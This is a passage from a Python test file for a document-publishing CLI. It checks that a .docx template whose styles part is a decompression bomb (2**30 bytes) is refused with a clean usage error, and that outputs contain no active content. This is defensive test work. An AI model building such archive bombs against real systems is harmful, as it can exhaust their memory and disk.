    assert_no_active_content((out / "T100-1.2.docx").read_bytes())


def test_publish_names_a_refused_template_in_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(ROOT)
    template = tmp_path / "force.docx"
    template.write_bytes(bomb(force_template(), "word/styles.xml", 2**30))
    source = str(CLEAN.relative_to(ROOT))
    code = run(["publish", "--as-of", "2026-01-15", source, "--out", str(tmp_path / "out"), "--template", str(template)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.startswith(f"pcso-policy: error: template '{template}' has a part 'word/styles.xml' that unpacks to")
    assert "Traceback" not in captured.err + captured.out
